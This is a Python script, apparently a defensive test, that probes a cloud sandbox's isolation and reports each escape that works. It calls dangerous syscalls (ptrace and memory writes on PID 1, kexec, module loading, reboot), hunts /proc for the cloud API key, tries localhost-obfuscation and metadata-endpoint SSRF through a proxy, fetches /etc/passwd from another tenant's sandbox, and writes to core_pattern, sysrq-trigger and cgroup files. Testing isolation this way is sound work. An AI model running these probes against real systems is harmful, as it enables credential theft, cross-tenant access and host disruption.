"""Tries what code in a sandbox must not be able to do.

Usage: attack.py HOST:PORT KEY OTHER SERVER ABSTRACT ADDRESS..., the address and half of
the key of the cloud, the id of another sandbox whose traffic is private, the port of a
server on the loopback of the host, the name of a socket of the host, and its other
addresses. The port of the cloud on a sandbox's own loopback is open, and leads to the
public names of sandboxes alone. Each success is a line that begins with ESCAPED; the last line says how many were tried.
"""

import concurrent.futures
import ctypes
import glob
import os
import socket
import sys

address, key, other, server, abstract = sys.argv[1:6]
port = address.rpartition(":")[2]
libc = ctypes.CDLL(None, use_errno=True)
tried = 0


def attempt(name, act):
    global tried
    tried += 1
    try:
        got = act()
    except (OSError, ValueError):
        return
    if got:
        print("ESCAPED", name, repr(got)[:200])


def syscall(number, *args):
    return lambda: libc.syscall(number, *args) >= 0


# Numbers on x86-64 and, from 400 on, on every architecture.
if os.uname().machine == "x86_64":
    zero = ctypes.create_string_buffer(256)
    attempt("add_key", syscall(248, b"user", b"k", b"v", 1, ctypes.c_int(-3)))
    attempt("keyctl", syscall(250, 0, ctypes.c_int(-3), 1))
    attempt("bpf", syscall(321, 0, zero, 72))
    attempt("perf_event_open", syscall(298, zero, 0, -1, -1, 0))
    attempt("userfaultfd", syscall(323, 1))
    attempt("unshare", syscall(272, 0x10000000))
    attempt("clone newuser", syscall(56, 0x10000000 | 17, 0, 0, 0, 0))
    attempt("ptrace the agent", syscall(101, 16, 1, 0, 0))
    attempt("seize the agent", syscall(101, 0x4206, 1, 0, 0))
    attempt("mount", syscall(165, b"none", b"/tmp", b"tmpfs", 0, 0))
    attempt("kexec_load", syscall(246, 0, 0, 0, 0))
    attempt("open_by_handle_at", syscall(304, -100, zero, 0))
    attempt("vsock", lambda: socket.socket(40, socket.SOCK_STREAM))
    attempt("packet socket", lambda: socket.socket(17, socket.SOCK_RAW))
    attempt("raw socket", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
    memory = ctypes.create_string_buffer(64)
    local = (ctypes.c_size_t * 2)(ctypes.addressof(memory), 64)
    remote = (ctypes.c_size_t * 2)(0x400000, 64)
    attempt("read the agent's memory", lambda: libc.syscall(310, 1, local, 1, remote, 1, 0) > 0)
    attempt("write the agent's memory", lambda: libc.syscall(311, 1, local, 1, remote, 1, 0) > 0)
    for name, number, args in (
        ("pivot_root", 155, (b"/tmp", b"/tmp")), ("umount2", 166, (b"/proc/sys", 2)), ("swapon", 167, (b"/tmp/x", 0)), ("reboot", 169, (0xFEE1DEAD, 672274793, 0)),
        ("sethostname", 170, (b"x", 1)), ("iopl", 172, (3,)), ("ioperm", 173, (0, 1, 1)), ("init_module", 175, (zero, 0, b"")),
        ("delete_module", 176, (b"x", 0)), ("quotactl", 179, (0, 0, 0, 0)), ("acct", 163, (0,)), ("settimeofday", 164, (zero, 0)),
        ("syslog", 103, (3, zero, 64)), ("vhangup", 153, ()), ("modify_ldt", 154, (0, zero, 64)), ("clock_settime", 227, (0, zero)),
        ("setns", 308, (os.open("/proc/self/ns/mnt", os.O_RDONLY), 0)), ("kcmp", 312, (os.getpid(), os.getpid(), 0, 0, 0)), ("finit_module", 313, (0, b"", 0)),
        ("fanotify_init", 300, (0, 0)), ("lookup_dcookie", 212, (0, zero, 64)), ("move_pages", 279, (1, 0, 0, 0, 0, 0)), ("migrate_pages", 256, (1, 0, 0, 0)),
    ):
        attempt(name, syscall(number, *args))
for family in (29, 30, 31, 38, 41, 44):  # CAN, TIPC, Bluetooth, the kernel's cryptography, KCM, XDP
    attempt("sockets of family %d" % family, lambda: socket.socket(family, socket.SOCK_SEQPACKET))
for protocol in (4, 6, 9, 10, 11, 12, 15, 16):  # where the kernel reports and accepts more than routes
    attempt("netlink %d" % protocol, lambda: socket.socket(16, socket.SOCK_RAW, protocol))
for name in ("shm", "msg", "sem"):
    attempt("System V " + name, lambda: open("/proc/sysvipc/" + name).read().splitlines()[1:])
attempt("move_mount", syscall(429, -100, b"/tmp", -100, b"/mnt", 0))
attempt("mount_setattr", syscall(442, -100, b"/", 0, ctypes.create_string_buffer(32), 32))
attempt("io_uring_setup", syscall(425, 1, ctypes.create_string_buffer(256)))
attempt("pidfd_getfd", lambda: libc.syscall(438, os.pidfd_open(1), 3, 0) >= 0)
attempt("fsopen", syscall(430, b"tmpfs", 0))
attempt("open_tree", syscall(428, -100, b"/", 1))


def fds():
    """No descriptor of any process leads out."""
    for path in glob.glob("/proc/[0-9]*/fd/*"):
        try:
            target = os.readlink(path)
        except OSError:
            continue
        if target.startswith("/") and not target.startswith(("/dev/null", "/dev/pts/", "/proc/", "/home/user", "/tmp", "/usr", "/dev/urandom")):
            yield path + " " + target


attempt("descriptors", lambda: list(fds()))


def holding(pattern):
    """Files that contain the key of the cloud."""
    for path in glob.glob(pattern):
        try:
            with open(path, "rb") as f:
                # This process was given the key without its prefix: its own arguments do not match.
                if ("e2b_" + key).encode() in f.read():
                    yield path
        except OSError:
            pass


attempt("the key in environments", lambda: list(holding("/proc/[0-9]*/environ")))
attempt("the key in arguments", lambda: list(holding("/proc/[0-9]*/cmdline")))
for name in ("mem", "maps", "environ", "io", "stack", "root/", "cwd/", "fd/3", "map_files"):
    attempt("the agent's " + name, lambda: os.listdir("/proc/1/" + name) if name[-1] in "/s" and name != "maps" else open("/proc/1/" + name, "rb").read(1))
attempt("host sockets", lambda: [line for line in open("/proc/net/unix") if abstract in line])


def connect(family, to):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(5)
    s.connect(to)
    return to


attempt("abstract socket", lambda: connect(socket.AF_UNIX, "\0" + abstract))
for host in ("127.0.0.1", "0.0.0.0"):
    attempt("loopback", lambda: connect(socket.AF_INET, (host, int(server))))

NAMES = (
    "127.0.0.1 127.1 0x7f.1 0177.0.0.1 2130706433 127.0.0.2 0.0.0.0 0 localhost LOCALHOST localhost. localhost.localdomain ip6-localhost "
    "[::1] [::] [::ffff:127.0.0.1] [::ffff:7f00:1] [::127.0.0.1] [0:0:0:0:0:ffff:127.0.0.1] [64:ff9b::7f00:1] [2002:7f00:1::] "
    "169.254.169.254 [fd00:ec2::254] metadata.google.internal api.localhost sandbox.localhost"
).split() + sys.argv[6:]


def through_proxy(host, tunnel):
    """How the proxy answers a request for the API."""
    s = socket.socket()
    s.settimeout(5)
    s.connect(("127.0.0.1", 3128))
    to = host + ":" + port
    if tunnel:
        s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (to, to)).encode())
    else:
        s.sendall(("GET http://%s/health HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (to, to)).encode())
    answer = s.recv(4096)
    return answer if answer.split(b" ")[1:2] == [b"200"] else None


def directly(host, called):
    """What answers a request for the API, under the name that it is called, without a proxy."""
    with socket.create_connection((host.strip("[]"), int(port)), 5) as s:
        s.sendall(("GET /health HTTP/1.1\r\nHost: %s:%s\r\nConnection: close\r\n\r\n" % (called, port)).encode())
        answer = s.recv(4096)
    return answer if answer.split(b" ")[1:2] == [b"200"] else None


def private(inside, way):
    """What a port of another sandbox, whose tokens we do not have, answers under its public name."""
    name = "%d-%s.localhost" % (inside, other)
    # Its daemon has a token of its own, without which it says no more than that it is there.
    path = "/files?path=/etc/passwd" if inside == 49983 else "/health"
    request = "GET %s HTTP/1.1\r\nHost: %s:%s\r\nConnection: close\r\n\r\n" % (path, name, port)
    with socket.create_connection(("127.0.0.1", int(port) if way == "relay" else 3128), 5) as s:
        if way == "tunnel":
            s.sendall(("CONNECT %s:%s HTTP/1.1\r\nHost: %s:%s\r\n\r\n" % (name, port, name, port)).encode())
            s.recv(4096)
        elif way == "proxy":
            request = request.replace(path, "http://%s:%s%s" % (name, port, path))
        s.sendall(request.encode())
        answer = s.recv(4096)
    return answer if answer.split(b" ")[1] not in (b"401", b"403") else None


# All at once: some are names that a resolver may take long to look up.
with concurrent.futures.ThreadPoolExecutor(64) as pool:
    for host in NAMES:
        for called in ("localhost", "127.0.0.1", "api.localhost", host):
            pool.submit(attempt, "connection to %s as %s" % (host, called), lambda host=host, called=called: directly(host, called))
        for tunnel in (True, False):
            pool.submit(attempt, "proxy to " + host, lambda host=host, tunnel=tunnel: through_proxy(host, tunnel))
    for inside in (3000, 8888, 49983, 49999):
        for way in ("relay", "proxy", "tunnel"):
            pool.submit(attempt, "port %d of another by the %s" % (inside, way), lambda inside=inside, way=way: private(inside, way))


def write(path, data):
    fd = os.open(path, os.O_WRONLY)
    try:
        return os.write(fd, data)
    finally:
        os.close(fd)


for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/sys/vm/drop_caches", "/proc/self/oom_score_adj"):
    attempt(path, lambda: write(path, b"-1"))
for path in glob.glob("/sys/fs/cgroup/**/*", recursive=True):
    attempt(path, lambda: write(path, b"1"))
print("tried", tried)
